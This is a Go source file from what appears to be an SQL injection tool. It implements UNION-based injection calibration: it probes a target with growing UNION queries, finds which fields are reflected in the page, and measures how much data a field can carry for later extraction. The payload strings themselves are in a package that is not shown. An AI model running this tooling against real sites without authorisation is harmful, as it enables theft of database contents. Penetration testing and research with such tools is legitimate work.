// Package calibrate finds which fields of a union query reach the page.
// Each field carries a failsafe numeral; the fields whose numeral shows
// up in the response are the ones extraction can read through.
package calibrate

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"strconv"
	"strings"

	"github.com/0x6d61/sqlsiphon/internal/dialect"
	"github.com/0x6d61/sqlsiphon/internal/oracle"
	"github.com/0x6d61/sqlsiphon/internal/payload"
)

// ErrNoVisibleIndex is returned when no field of the union reaches the page.
var ErrNoVisibleIndex = errors.New("calibrate: no visible index")

// DefaultCapacity is the Normal capacity used when the dialect cannot
// measure it.
const DefaultCapacity = 65536

// DefaultMaxFields bounds Discover.
const DefaultMaxFields = 20

// Result is the outcome of calibrating a union of Fields fields.
type Result struct {
	Fields  int
	Visible []int
	Markers map[int]string
	// Query is the indices query; extraction replaces the failsafe of
	// Best with its window.
	Query string

	Best     int
	Capacity int
}

// Indices probes the union of n failsafe fields once and keeps the fields
// whose marker appears in the page.
func Indices(ctx context.Context, p oracle.Prober, b *payload.Builder, n int) (*Result, error) {
	query, err := b.Indices(n)
	if err != nil {
		return nil, err
	}
	resp, err := p.Probe(ctx, query)
	if err != nil {
		return nil, fmt.Errorf("calibration probe: %w", err)
	}

	res := &Result{Fields: n, Query: query, Markers: make(map[int]string)}
	body := string(resp.Body)
	for i := 1; i <= n; i++ {
		m := payload.Marker(i)
		if strings.Contains(body, m) {
			res.Visible = append(res.Visible, i)
			res.Markers[i] = m
		}
	}
	if len(res.Visible) == 0 {
		return nil, fmt.Errorf("%d fields: %w", n, ErrNoVisibleIndex)
	}
	res.Best = res.Visible[0]
	res.Capacity = DefaultCapacity
	return res, nil
}

// Discover grows the union one field at a time until a field is visible,
// then measures the capacity of the visible fields.
func Discover(ctx context.Context, p oracle.Prober, b *payload.Builder, maxFields int, logger *slog.Logger) (*Result, error) {
	if maxFields < 1 {
		maxFields = DefaultMaxFields
	}
	if logger == nil {
		logger = slog.Default()
	}
	for n := 1; n <= maxFields; n++ {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		res, err := Indices(ctx, p, b, n)
		if errors.Is(err, ErrNoVisibleIndex) {
			continue
		}
		if err != nil {
			return nil, err
		}
		logger.Debug("union fields found", "fields", n, "visible", res.Visible)
		if err := Capacity(ctx, p, b, res); err != nil {
			return nil, err
		}
		return res, nil
	}
	return nil, fmt.Errorf("up to %d fields: %w", maxFields, ErrNoVisibleIndex)
}

// Capacity replaces every visible marker by the calibrator and keeps the
// field that reflects the most calibrator characters. Dialects without a
// capacity template keep DefaultCapacity.
func Capacity(ctx context.Context, p oracle.Prober, b *payload.Builder, res *Result) error {
	query, err := b.Capacity(res.Query, res.Visible)
	if errors.Is(err, payload.ErrUnsupported) {
		return nil
	}
	if err != nil {
		return err
	}
	resp, err := p.Probe(ctx, query)
	if err != nil {
		return fmt.Errorf("capacity probe: %w", err)
	}

	lead := b.Atom(dialect.Lead)
	text := oracle.VisibleText(resp.Body, lead)
	calibrator := b.Atom(dialect.CalibratorSQL)

	best, capacity := 0, 0
	for _, i := range res.Visible {
		if n := Count(text, lead+strconv.Itoa(i), calibrator); n > capacity {
			best, capacity = i, n
		}
	}
	if capacity == 0 {
		return fmt.Errorf("no field reflects the calibrator: %w", ErrNoVisibleIndex)
	}
	res.Best, res.Capacity = best, capacity
	return nil
}

// Count returns the longest run of unit following an occurrence of prefix
// in text.
func Count(text, prefix, unit string) int {
	if unit == "" || prefix == "" {
		return 0
	}
	best := 0
	for {
		i := strings.Index(text, prefix)
		if i < 0 {
			return best
		}
		text = text[i+len(prefix):]
		n := 0
		for rest := text; strings.HasPrefix(rest, unit); rest = rest[len(unit):] {
			n++
		}
		best = max(best, n)
	}
}
